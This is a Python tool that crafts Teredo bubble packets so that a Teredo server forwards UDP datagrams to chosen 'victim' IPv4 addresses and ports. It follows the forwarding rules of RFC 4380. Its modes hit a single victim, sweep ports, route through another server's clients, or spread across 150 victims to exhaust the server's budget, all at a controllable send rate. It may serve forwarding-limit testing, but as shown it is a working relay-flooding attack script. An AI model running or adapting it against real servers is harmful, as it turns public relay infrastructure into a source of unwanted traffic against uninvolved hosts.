#!/usr/bin/env python3
"""Datagrams a Teredo server forwards to whatever IPv4:port their Teredo destination embeds (RFC 4380 section 5.3.1),
COUNT at RATE a second from PORTS source ports of the local address LOCAL, towards the server at SERVER:3544:
  one     bubbles from a native source (rule 6) to the server's client that embeds 198.51.100.77:5555
  ports   the same, the embedded port a new one each datagram (one victim IPv4, any port)
  rule5   bubbles from a Teredo address embedding the sender's own mapping (rule 5) to a client of another server
          (203.0.113.120) that embeds 198.51.100.77, any port
  spread  rule-6 bubbles to clients embedding 150 victims 198.51.100.100 to .249, port 5555 (the whole server's budget)
  fwd_send.py SERVER LOCAL COUNT RATE PORTS MODE"""
import socket, struct, sys, time

def addr(server, port, ipv4):
    inv = bytes(~b & 0xFF for b in socket.inet_aton(ipv4))
    return struct.pack("!I", 0x20010000) + socket.inet_aton(server) + struct.pack("!HH", 0, ~port & 0xFFFF) + inv

def bubble(src, dst):
    return struct.pack("!IHBB", 0x60000000, 0, 59, 64) + src + dst

def payloads(mode, server, local, ports):
    native = socket.inet_pton(socket.AF_INET6, "2001:db8:6::99")
    if mode == "one":
        return [bubble(native, addr(server, 5555, "198.51.100.77"))]
    if mode == "ports":
        return [bubble(native, addr(server, 1024 + n, "198.51.100.77")) for n in range(4096)]
    if mode == "rule5":
        return [bubble(addr("203.0.113.120", 20000 + n % ports, local), addr("203.0.113.120", 1024 + n, "198.51.100.77"))
                for n in range(ports * 64)]
    if mode == "spread":
        return [bubble(native, addr(server, 5555, "198.51.100.%d" % (100 + n))) for n in range(150)]
    raise SystemExit("unknown mode " + mode)

def main():
    server, local, count, rate, ports, mode = sys.argv[1], sys.argv[2], int(sys.argv[3]), int(sys.argv[4]), int(sys.argv[5]), sys.argv[6]
    socks = []
    for p in range(ports):
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        s.bind((local, 20000 + p))
        socks.append(s)
    data = payloads(mode, server, local, ports)
    start = time.monotonic()
    for i in range(count):
        # rule 5: the source address must embed the port it leaves from (20000 + n % ports)
        socks[i % ports].sendto(data[i % len(data)] if mode != "rule5" else data[(i % ports) + ports * ((i // ports) % 64)], (server, 3544))
        due = start + (i + 1) / rate
        ahead = due - time.monotonic()
        if ahead > 0.001:
            time.sleep(ahead)
    print("sent %d datagrams of %d bytes (UDP payload) in %.2f s" % (count, len(data[0]), time.monotonic() - start))

main()
